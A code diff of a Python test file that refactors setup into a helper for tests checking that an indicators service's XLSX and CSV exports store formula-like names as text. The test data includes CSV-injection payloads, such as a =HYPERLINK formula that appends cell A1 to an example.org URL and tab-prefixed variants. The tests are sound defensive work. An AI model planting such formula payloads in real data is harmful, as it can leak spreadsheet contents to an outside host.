@@ -120,17 +120,22 @@ FORMULAS = ('=HYPERLINK("http://example.org/x?"&A1,"Ver informe")', "@SUM(1+9)*c
 """Names typed in the field or by a lead that a spreadsheet would take for formulas (OWASP's CSV injection)."""
 
 
-def test_names_that_look_like_formulas_reach_every_export_as_text_never_as_a_formula(client: TestClient) -> None:
-    """A promoter's OSV names and a lead's phase name, as hostile as a form lets them be, opened by a donor in Excel."""
-    events = [cloudevent("funding", 1, "PhaseOpened", "p1", at(0), phase_id="p1", code="F1", name=FORMULAS[0],
+def named_as(client: TestClient, names: tuple[str, ...]) -> None:
+    """Reporting hears of a phase named ``names[0]`` and of an OSV named each of ``names``, each with an activity."""
+    events = [cloudevent("funding", 1, "PhaseOpened", "p1", at(0), phase_id="p1", code="F1", name=names[0],
                          starts_on="2021-01-01", ends_on="2021-06-30", occurred_on="2021-01-01")]
-    for n, name in enumerate(FORMULAS, start=1):
+    for n, name in enumerate(names, start=1):
         osv = f"osv-{n}"
         events.append(cloudevent("registry", n, "OSVMapped", osv, at(n), osv_id=osv, name=name, district="San Juan de Lurigancho",
                                  zone="Lima Este", mapped_on="2021-01-05", occurred_on="2021-01-05"))
         reported = activity(f"act-{n}", n, 10 + n, "2021-03-01", ve_f=n)
         events.append({**reported, "data": {**reported["data"], "osv_id": osv}})
     application_of(client).readmodel.apply(events)
+
+
+def test_names_that_look_like_formulas_reach_every_export_as_text_never_as_a_formula(client: TestClient) -> None:
+    """A promoter's OSV names and a lead's phase name, as hostile as a form lets them be, opened by a donor in Excel."""
+    named_as(client, FORMULAS)
 
     workbook = load_workbook(io.BytesIO(client.get("/indicators/export.xlsx").content))
     cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
@@ -152,15 +157,7 @@ BLANK_LED = ("\t=HYPERLINK(\"http://example.org/x?\"&A1,\"Ver informe\")", "\r=1
 
 def test_texts_starting_with_a_tab_or_a_carriage_return_reach_the_csv_exports_escaped_as_any_formula(client: TestClient) -> None:
     """The exports are written from events: a text in one is not trimmed as the APIs trim what they take."""
-    events = [cloudevent("funding", 1, "PhaseOpened", "p1", at(0), phase_id="p1", code="F1", name=BLANK_LED[0],
-                         starts_on="2021-01-01", ends_on="2021-06-30", occurred_on="2021-01-01")]
-    for n, name in enumerate(BLANK_LED, start=1):
-        osv = f"osv-{n}"
-        events.append(cloudevent("registry", n, "OSVMapped", osv, at(n), osv_id=osv, name=name, district="San Juan de Lurigancho",
-                                 zone="Lima Este", mapped_on="2021-01-05", occurred_on="2021-01-05"))
-        reported = activity(f"act-{n}", n, 10 + n, "2021-03-01", ve_f=n)
-        events.append({**reported, "data": {**reported["data"], "osv_id": osv}})
-    application_of(client).readmodel.apply(events)
+    named_as(client, BLANK_LED)
 
     indicators = list(csv.reader(io.StringIO(client.get("/indicators/export.csv").content.decode("utf-8-sig"), newline="")))
     assert {row[0] for row in indicators[1:]} == {"'" + BLANK_LED[0], "Total"}
